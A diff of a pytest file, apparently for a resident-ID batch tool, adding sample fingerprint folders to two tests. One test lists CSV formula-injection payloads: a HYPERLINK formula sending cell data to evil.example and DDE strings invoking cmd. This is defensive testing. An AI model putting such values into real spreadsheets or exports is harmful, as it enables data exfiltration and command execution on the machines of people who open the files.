@@ -28,6 +28,7 @@ def pki(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def _input(folder: Path, copies: int = 2) -> Path:
     """The sample residents ``copies`` times over (new ID numbers), with two broken rows in the middle."""
     shutil.copytree(SAMPLES / "portraits", folder / "portraits", dirs_exist_ok=True)
+    shutil.copytree(SAMPLES / "fingers", folder / "fingers", dirs_exist_ok=True)
     rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
     batch = [dict(row, id_number=row["id_number"][:-2] + f"{copy:02d}") for copy in range(copies) for row in rows]
     batch.insert(3, dict(rows[1], date_of_birth="31/02/1990"))
@@ -89,6 +90,7 @@ def test_a_broken_pki_folder_stops_before_any_row(tmp_path: Path, capsys: pytest
 
 def test_rejected_csv_neutralises_spreadsheet_formulas(pki: Path, tmp_path: Path) -> None:
     shutil.copytree(SAMPLES / "portraits", tmp_path / "portraits")
+    shutil.copytree(SAMPLES / "fingers", tmp_path / "fingers")
     rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
     with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as handle:
